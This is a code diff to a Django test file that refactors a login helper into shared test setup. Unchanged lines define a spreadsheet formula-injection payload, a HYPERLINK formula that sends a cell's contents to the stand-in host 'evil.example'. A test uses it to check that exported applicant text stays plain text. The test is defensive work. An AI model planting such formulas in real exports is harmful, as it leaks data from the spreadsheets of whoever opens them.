@@ -9,7 +9,6 @@ import io
 import zipfile
 
 import pytest
-from django.test import Client
 from django.urls import reverse
 from django.utils import translation
 from openpyxl import load_workbook
@@ -18,15 +17,9 @@ from gongkai.core.errors import CaseDataError
 from gongkai.web.applications import services
 from gongkai.web.applications.models import Application, Notice
 from gongkai.web.notices.services import render_notice_docx, render_notice_pdf
-from tests.web.conftest import APPLICANT, RECEIVED, FileApplication, Staff, TodayIs, Tree
+from tests.web.conftest import APPLICANT, RECEIVED, FileApplication, Staff, TodayIs, Tree, client_for
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
-
-
-def client_for(user: object) -> Client:
-    client = Client()
-    client.force_login(user)  # type: ignore[arg-type]
-    return client
 
 
 def test_the_queue_export_keeps_what_applicants_typed_as_text_never_a_formula(
